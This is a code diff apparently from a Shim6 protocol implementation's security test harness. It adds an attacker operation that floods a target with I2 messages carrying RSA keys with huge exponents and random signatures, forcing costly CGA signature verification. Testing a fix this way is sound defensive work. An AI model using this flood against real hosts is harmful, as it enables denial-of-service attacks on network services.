@@ -14,14 +14,16 @@
  */
 import dgram from 'node:dgram';
 import { spawn, type ChildProcess } from 'node:child_process';
-import { randomBytes } from 'node:crypto';
+import { createPublicKey, generateKeyPairSync, randomBytes } from 'node:crypto';
 import { createInterface } from 'node:readline';
 import { performance } from 'node:perf_hooks';
 import { decodePayloadHeader, encodeMessage, encodePayloadHeader, isPayloadHeader, tryDecodeMessage, type Shim6Message, type Shim6Option } from '../../shim/wire/index.ts';
 import { PcapStream, type CapturedUdp } from './pcap-stream.ts';
 import { loadAddon } from '../../native/addon.ts';
 import { formatIpv6, parseIpv6 } from '../../shim/wire/ipv6.ts';
-import type { CaptureQuery, ClaimArgs, FloodArgs, FloodResult, HandshakeArgs, HandshakeResult, InboxSummary, SprayArgs } from './attacker.ts';
+import { generateCga } from '../../shim/wire/cga.ts';
+import { VerificationMethod } from '../../shim/constants.ts';
+import type { CaptureQuery, CgaFloodArgs, ClaimArgs, CgaFloodResult, FloodArgs, FloodResult, HandshakeArgs, HandshakeResult, InboxSummary, SprayArgs } from './attacker.ts';
 
 const SHIM6_PORT = 5533;
 const RETRY_MS = 1000;
@@ -354,8 +356,75 @@ async function stopClaims(): Promise<{ sent: number }> {
   return { sent: loop.sent };
 }
 
+/** An SPKI of an RSA "key" with modulus `n` and exponent `e` (nothing signs with it: its signatures are random). */
+function rsaSpki(n: bigint, e: bigint): Uint8Array {
+  const b64u = (v: bigint): string => { let h = v.toString(16); if (h.length % 2) h = '0' + h; return Buffer.from(h, 'hex').toString('base64url'); };
+  return new Uint8Array(createPublicKey({ key: { kty: 'RSA', n: b64u(n), e: b64u(e) }, format: 'jwk' }).export({ type: 'spki', format: 'der' }));
+}
+const oddOfBits = (bits: number): bigint => BigInt('0x' + randomBytes(bits / 8).toString('hex')) | (1n << BigInt(bits - 1)) | 1n;
+
+/**
+ * The CGA verification flood (docs/security.md "CGA verification cost"): I2s whose PDS holds a key of
+ * the attacker's choice and whose ULID is a Sec 0 CGA of it, under validators of R1s it asks for from
+ * socket `sock` (a fresh one every second); the Locator List names the socket's address as a
+ * CGA-method locator, and the CGA Signature is random. `keys`: 'huge-exponent' (3072-bit modulus and
+ * a 3070-bit exponent, ~120 times a normal key's verification cost before the fix) or 'normal'
+ * (2048 bits, e = 65537), alternating when both are given; `fresh`: a new random signature in every
+ * I2 (else copies of one I2 per R1). `rate` I2s per second for `count` I2s, or until `cgaFloodStop`.
+ */
+let cgaFloodStop = false;
+
+async function cgaFlood(a: CgaFloodArgs): Promise<CgaFloodResult> {
+  cgaFloodStop = false;
+  const s = sock(a.sock);
+  const src = formatIpv6(parseIpv6(s.s.address().address));
+  const pds = a.keys.map((k) => {
+    const spki = k === 'normal'
+      ? new Uint8Array(generateKeyPairSync('rsa', { modulusLength: 2048 }).publicKey.export({ type: 'spki', format: 'der' }))
+      : rsaSpki(oddOfBits(3072), oddOfBits(3072) >> 2n | 1n);
+    const cga = generateCga({ subnetPrefix: '2001:db8:66::/64', publicKey: spki, sec: 0, randomBytes: (n) => new Uint8Array(randomBytes(n)) });
+    return { ulid: cga.address, params: cga.params, sigLength: k === 'normal' ? 256 : 384 };
+  });
+  let r1: Extract<Shim6Message, { type: 'R1' }>[] = [];
+  const tags = pds.map(() => tag47());
+  const nonces = pds.map(() => u32());
+  const askR1 = async (): Promise<void> => {
+    r1 = await Promise.all(pds.map((p, i) => request(s, a.dst, encodeMessage({ type: 'I1', contextTag: tags[i]!, initiatorNonce: nonces[i]!, options: [{ type: 'UlidPair', critical: false, senderUlid: p.ulid, receiverUlid: a.dst }] }),
+      (m): m is Extract<Shim6Message, { type: 'R1' }> => m.type === 'R1' && m.initiatorNonce === nonces[i])));
+  };
+  await askR1();
+  const i2 = (k: number): Uint8Array => {
+    const p = pds[k]!;
+    const sig = new Uint8Array(randomBytes(p.sigLength)); sig[0] = 0;
+    return encodeMessage({ type: 'I2', contextTag: tags[k]!, initiatorNonce: nonces[k]!, responderNonce: r1[k]!.responderNonce, options: [
+      r1[k]!.options.find((o) => o.type === 'ResponderValidator')!,
+      { type: 'UlidPair', critical: false, senderUlid: p.ulid, receiverUlid: a.dst },
+      { type: 'LocatorList', critical: false, generation: 1, locators: [{ address: src, verificationMethod: VerificationMethod.CGA }] },
+      { type: 'CgaParameterDataStructure', critical: false, pds: p.params },
+      { type: 'CgaSignature', critical: false, signature: sig },
+    ] });
+  };
+  let fixed = pds.map((_, k) => i2(k));
+  const t0 = performance.now();
+  let sent = 0, lastAsk = t0, asking: Promise<void> | undefined;
+  while (sent < a.count && !cgaFloodStop) {
+    const due = Math.min(a.count, Math.floor(((performance.now() - t0) / 1000) * a.rate));
+    for (; sent < due; sent++) {
+      const k = sent % pds.length;
+      s.s.send(a.fresh ? i2(k) : fixed[k]!, SHIM6_PORT, a.dst);
+    }
+    if (asking === undefined && performance.now() - lastAsk > 1000) {
+      lastAsk = performance.now();
+      asking = askR1().then(() => { fixed = pds.map((_, k) => i2(k)); asking = undefined; }, () => { asking = undefined; });
+    }
+    await sleep(5);
+  }
+  return { sent, sendMs: performance.now() - t0 };
+}
+
 const OPS: Record<string, (args: never) => Promise<unknown> | unknown> = {
-  socket, handshake, inbox, capture, captured: capturedCount, waitCaptured, sniffTag, spray, flood, startClaims, stopClaims,
+  socket, handshake, inbox, capture, captured: capturedCount, waitCaptured, sniffTag, spray, flood, startClaims, stopClaims, cgaFlood,
+  cgaFloodStop: () => { cgaFloodStop = true; return {}; },
 };
 
 createInterface({ input: process.stdin }).on('line', (line) => {
